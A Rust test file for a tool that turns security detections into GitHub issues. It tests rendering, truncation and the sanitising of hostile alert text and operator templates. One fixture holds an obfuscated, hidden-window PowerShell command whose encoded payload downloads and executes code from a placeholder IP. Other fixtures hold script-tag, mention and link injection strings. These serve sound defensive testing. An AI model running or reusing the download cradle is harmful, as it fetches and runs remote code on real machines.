//! Rendered titles, bodies and comments for each detection shape (insta
//! snapshots, reviewed by hand), the size limit, and what an operator's
//! template can and cannot do.

use super::fixtures::*;
use super::*;
use crate::alert::{Alert, Enrichment, Level, Status, Table};
use crate::decision::Decision;
use crate::tracker::IssueRef;

fn renderer() -> Renderer {
    match Renderer::new(None) {
        Ok(r) => r,
        Err(e) => panic!("built-in templates: {e}"),
    }
}

fn issue(r: &Renderer, v: &IssueView<'_>) -> String {
    let body = r.issue_body(v).unwrap_or_else(|e| panic!("{e}"));
    check_body(&body, v.fingerprint);
    let title = r.title(v);
    assert!(
        title.chars().count() <= TITLE_CAP && !title.contains('\n'),
        "{title}"
    );
    format!("{title}\n\n{body}")
}

/// What every body must be, whatever went in.
fn check_body(body: &str, fp: &str) {
    assert!(
        body.chars().count() <= MAX_BODY_CHARS,
        "{} chars",
        body.chars().count()
    );
    let block = format!("<!-- {}\n", marker(fp));
    assert_eq!(body.matches("<!--").count(), 1, "one HTML comment: ours");
    assert_eq!(body.matches("-->").count(), 1, "one HTML comment: ours");
    assert_eq!(
        body.to_lowercase().matches("falconry:").count(),
        1,
        "one marker"
    );
    assert!(
        body.contains(&block) && body.trim_end().ends_with("-->"),
        "marker block last"
    );
    assert!(
        body.starts_with("### Summary") || body.starts_with("> [!WARNING]"),
        "summary first"
    );
}

#[test]
fn epp_detection() {
    let r = renderer();
    let a = epp();
    let mut d = decision(
        Level::Critical,
        &[
            "encoded PowerShell on a finance workstation",
            "parent is cmd.exe",
        ],
    );
    d.runbook = Some("https://wiki.corp.example/soc/runbooks/encoded-powershell".into());
    let e = enrichment();
    let raw = raw(
        "EppDetectionSummaryEvent",
        serde_json::json!({"Name": a.name, "CommandLine": a.process.command_line, "Hostname": a.host.hostname}),
    );
    insta::assert_snapshot!("epp", issue(&r, &view(&a, &d, &e, &raw)));
}

#[test]
fn idp_detection() {
    let r = renderer();
    let a = idp();
    let d = decision(Level::Medium, &["privileged account"]);
    let raw = raw(
        "IdpDetectionSummaryEvent",
        serde_json::json!({"UserName": a.user.name}),
    );
    insta::assert_snapshot!(
        "idp",
        issue(&r, &view(&a, &d, &Enrichment::default(), &raw))
    );
}

#[test]
fn xdr_detection() {
    let r = renderer();
    let a = xdr();
    let d = decision(Level::Critical, &["several hosts"]);
    insta::assert_snapshot!("xdr", issue(&r, &view(&a, &d, &Enrichment::default(), "")));
}

/// The first stream fixture line of `event_type`, normalised: the project's
/// synthetic event, as the enricher reads it from a batch.
fn from_stream(event_type: &str) -> (Alert, String) {
    let lines = falconry_fixtures::stream_events(&falconry_fixtures::StreamOptions {
        events: 400,
        ..Default::default()
    });
    let line = lines
        .into_iter()
        .find(|l| l.event_type == event_type)
        .unwrap_or_else(|| panic!("the stream fixture has no {event_type}"));
    let v: serde_json::Value = serde_json::from_str(&line.line).unwrap_or_else(|e| panic!("{e}"));
    let a = crate::alert::normalize::normalize(&v, &Default::default(), Default::default())
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("{event_type} is an alert"));
    (a, line.line)
}

#[test]
fn data_protection_detection() {
    let r = renderer();
    let (a, raw) = from_stream(falconry_common::event_types::DATA_PROTECTION);
    assert_eq!(a.kind, crate::alert::AlertKind::DataProtection);
    assert!(a.composite_id.is_some() && a.host.aid.is_some() && a.user.name.is_some());
    assert!(
        a.objective.as_deref().is_some_and(|o| o.contains('(')),
        "policy (classification)"
    );
    assert_eq!(a.product.as_deref(), Some("data-protection"));
    let d = decision(Level::Medium, &["data leaving the organisation"]);
    insta::assert_snapshot!(
        "data_protection",
        issue(&r, &view(&a, &d, &Enrichment::default(), &raw))
    );
}

#[test]
fn automated_lead() {
    let r = renderer();
    let (a, raw) = from_stream(falconry_common::event_types::AUTOMATED_LEAD);
    assert_eq!(a.kind, crate::alert::AlertKind::Lead);
    assert!(a.composite_id.is_some() && a.host.hostname.is_some());
    assert!(!a.mitre.is_empty());
    let d = decision(Level::High, &["Signal correlated several indicators"]);
    insta::assert_snapshot!(
        "automated_lead",
        issue(&r, &view(&a, &d, &Enrichment::default(), &raw))
    );
}

#[test]
fn legacy_detection() {
    let r = renderer();
    let a = legacy();
    let d = Decision::fallback(
        Level::High,
        "rego: eval_error: input.alert.severity: undefined @octocat <b>",
    );
    let raw = "not json at all <!-- --> ```";
    insta::assert_snapshot!(
        "legacy",
        issue(&r, &view(&a, &d, &Enrichment::default(), raw))
    );
}

#[test]
fn incident_reopened() {
    let r = renderer();
    let a = incident();
    let d = decision(Level::Critical, &["incident"]);
    let prev = IssueRef {
        repo: "soc/alerts".into(),
        number: 41,
        url: "https://github.com/soc/alerts/issues/41".into(),
    };
    let raw = raw(
        "IncidentSummaryEvent",
        serde_json::json!({"IncidentID": a.id, "FineScore": 10.0}),
    );
    let e = Enrichment::default();
    let mut v = view(&a, &d, &e, &raw);
    v.previous = Some(&prev);
    v.occurrences = 3;
    v.first_seen_ms = T - 86_400_000;
    insta::assert_snapshot!("incident", issue(&r, &v));
}

#[test]
fn hostile_everything() {
    let r = renderer();
    // A 1 MB command line: the entities table shows 4,000 chars of it.
    let a = hostile(format!("powershell -enc {}", "QQBBAEEA".repeat(1 << 17)));
    let mut d = decision(Level::High, &["@octocat said so <b>"]);
    d.runbook = Some("http://wiki.evil.example/runbook".into());
    let e = hostile_enrichment();
    let raw = raw(
        "EppDetectionSummaryEvent",
        serde_json::json!({"CommandLine": "``` </details> <!-- -->", "User": "@octocat"}),
    );
    let out = issue(&r, &view(&a, &d, &e, &raw));
    insta::assert_snapshot!("hostile", out);
}

#[test]
fn hostile_body_fits_and_keeps_summary_and_marker() {
    let r = renderer();
    let cmd = format!("powershell -enc {}", "QQBBAEEA".repeat(1 << 17));
    let mut a = hostile(cmd.clone());
    a.parent.command_line = Some(cmd.clone());
    a.grandparent.command_line = Some(cmd.clone());
    a.ips = (0..5_000)
        .map(|i| format!("10.{}.{}.{}", i / 65_536, i / 256 % 256, i % 256))
        .collect();
    let d = decision(Level::High, &["x"; 50]);
    let big = |n: usize| Table {
        columns: vec!["a".into(); 12],
        rows: vec![vec!["@x <b> ``` | ".repeat(40); 12]; n],
    };
    let e = Enrichment {
        sections: (0..8)
            .map(|i| {
                section(
                    &format!("p{i}"),
                    "Big",
                    Status::Available,
                    big(500),
                    &["note @x"; 40],
                )
            })
            .collect(),
    };
    // The whole event (its command lines included) is the raw event.
    let raw = serde_json::to_string(&a).unwrap_or_default();
    let v = view(&a, &d, &e, &raw);
    let body = r.issue_body(&v).unwrap_or_else(|e| panic!("{e}"));
    check_body(&body, FP);
    assert!(body.contains("- **Severity:** high"));
    assert!(body.contains("| Command line | `powershell -enc QQBBAEEA"));
    assert!(body.contains("more rows not shown"));
    assert!(body.contains("_Raw event left out"));
}

#[test]
fn raw_event_is_cut_before_anything_else() {
    let r = renderer();
    let a = epp();
    let d = decision(Level::High, &["x"]);
    let e = enrichment();
    let raw = serde_json::json!({"CommandLine": "A".repeat(200_000)}).to_string();
    let body = r
        .issue_body(&view(&a, &d, &e, &raw))
        .unwrap_or_else(|e| panic!("{e}"));
    check_body(&body, FP);
    assert!(body.contains("<details><summary>Raw event</summary>"));
    assert!(body.contains("… truncated "));
    assert!(
        body.contains("| Name | Type | Value |"),
        "enrichment rows kept"
    );
}

#[test]
fn repeat_comment() {
    let r = renderer();
    let before = epp();
    let mut now = epp();
    now.time_ms = T + 3_600_000;
    now.process.command_line = Some("powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIANAAnACkA".into());
    now.ips.push("198.51.100.24".into());
    now.domains.push("@mention.example".into());
    let d = decision(Level::Critical, &["encoded PowerShell"]);
    let v = CommentView {
        alert: &now,
        decision: &d,
        occurrences: 4,
        first_seen_ms: T,
        last_seen_ms: T + 3_600_000,
        fingerprint: FP,
        changes: changes(&before, &now),
        occurrence_key: "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8",
    };
    let body = r.comment_body(&v).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        body.trim_end()
            .ends_with(&format!("<!-- {} -->", occurrence_marker(v.occurrence_key)))
    );
    insta::assert_snapshot!("comment", body);
}

const ATTACKS: &str = "@octocat #12 <script>x</script> [l](https://evil.example) <!-- c -->";

fn attack_alert() -> Alert {
    let mut a = epp();
    a.name = ATTACKS.into();
    a.process.command_line = Some(ATTACKS.into());
    a
}

#[test]
fn an_operator_template_without_filters_is_still_safe() {
    let overrides = Overrides {
        title: Some("{{ alert.name }} {{ alert.process.command_line | upper }}".into()),
        issue: Some(
            "{{ alert.name }}\n{{ alert.process.command_line }}\n\
             {% autoescape false %}{{ alert.name }}{% endautoescape %}\n\
             {{ alert.name | upper }} {{ [alert.name, host] | join(' ') }} {{ alert.name ~ '!' }}\n\
             {{ alert.name | replace('x', alert.name) }} {{ alert.name | e }} {{ alert }}\n\
             {% set captured %}{{ alert.name }}{% endset %}{{ captured }}"
                .into(),
        ),
        comment: Some("{{ changes }} {{ alert.user }}".into()),
    };
    let r = Renderer::from_sources(overrides).unwrap_or_else(|e| panic!("{e}"));
    let a = attack_alert();
    let d = decision(Level::High, &["x"]);
    let e = Enrichment::default();
    let v = view(&a, &d, &e, "");
    let body = r.issue_body(&v).unwrap_or_else(|e| panic!("{e}"));
    let human = &body[..body.find("\n\n<!-- falconry:").unwrap_or(body.len())];
    for bad in ["@octocat", "#12", "<script", "](", "<!--", "https://"] {
        assert!(!human.contains(bad), "{bad} in {human}");
    }
    assert!(human.contains(&format!("@{}octocat", sanitize::BREAK)));
    let title = r.title(&v);
    assert!(
        !title.contains("@octocat") && !title.contains("#12") && !title.contains("https://"),
        "{title}"
    );
    assert!(title.chars().count() <= TITLE_CAP);
}

#[test]
fn the_safe_filter_is_gone() {
    let overrides = Overrides {
        issue: Some("{{ alert.name | safe }}".into()),
        ..Overrides::default()
    };
    assert!(matches!(
        Renderer::from_sources(overrides),
        Err(RenderError::Render { name: ISSUE, .. })
    ));
}

#[test]
fn a_bad_template_is_an_error_at_start() {
    let overrides = Overrides {
        comment: Some("{% if %}".into()),
        ..Overrides::default()
    };
    assert!(matches!(
        Renderer::from_sources(overrides),
        Err(RenderError::Compile { name: COMMENT, .. })
    ));
    let overrides = Overrides {
        title: Some("{{ alert.name | no_such_filter }}".into()),
        ..Overrides::default()
    };
    assert!(matches!(
        Renderer::from_sources(overrides),
        Err(RenderError::Render { name: TITLE, .. })
    ));
}

#[test]
fn overrides_come_from_the_templates_directory() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(dir.path().join("title.j2"), "ALERT {{ alert.name }}")
        .unwrap_or_else(|e| panic!("{e}"));
    let r = Renderer::new(Some(dir.path())).unwrap_or_else(|e| panic!("{e}"));
    let a = attack_alert();
    let d = decision(Level::High, &["x"]);
    let e = Enrichment::default();
    let v = view(&a, &d, &e, "");
    assert!(
        r.title(&v)
            .starts_with(&format!("ALERT @{}octocat", sanitize::BREAK))
    );
    // The others stay built in.
    assert!(
        r.issue_body(&v)
            .unwrap_or_default()
            .starts_with("### Summary")
    );

    std::fs::write(dir.path().join("issue.md.j2"), "{% for %}").unwrap_or_else(|e| panic!("{e}"));
    assert!(matches!(
        Renderer::new(Some(dir.path())),
        Err(RenderError::Compile { name: ISSUE, .. })
    ));
    let missing = dir.path().join("missing");
    assert!(matches!(
        Renderer::new(Some(&missing)),
        Err(RenderError::TemplatesDir { .. })
    ));
}

#[test]
fn an_endless_operator_template_is_cut_at_a_line() {
    let overrides = Overrides {
        issue: Some("### Summary\n\n{{ alert.name }}\n\n```\n{% for i in range(20000) %}line {{ i }}\n{% endfor %}```\n".into()),
        ..Overrides::default()
    };
    let r = Renderer::from_sources(overrides).unwrap_or_else(|e| panic!("{e}"));
    let a = epp();
    let d = decision(Level::High, &["x"]);
    let e = Enrichment::default();
    let body = r
        .issue_body(&view(&a, &d, &e, ""))
        .unwrap_or_else(|e| panic!("{e}"));
    check_body(&body, FP);
    // The open fence was closed before the note and the marker.
    let tail = &body[body.rfind("line ").unwrap_or(0)..];
    assert!(
        tail.contains("\n```\n\n_… the rest of this text was cut"),
        "{tail}"
    );
}

#[test]
fn truncation_closes_what_it_leaves_open() {
    let body = "a\n<details><summary>x</summary>\n\n````json\n{\n}\n````\n\n</details>\n";
    assert_eq!(truncate_markdown(body, 1_000).lines().next(), Some("a"));
    // Room for the lines up to `{`, the fence and details closers, the note.
    let cut = truncate_markdown(body, 138);
    assert!(
        cut.starts_with(
            "a\n<details><summary>x</summary>\n\n````json\n{\n````\n\n</details>\n\n_… the rest"
        ),
        "{cut}"
    );
    assert!(cut.chars().count() <= 138, "{}", cut.chars().count());
    let cut = truncate_markdown(body, 100);
    assert!(cut.starts_with("a\n\n_… the rest"), "{cut}");
}
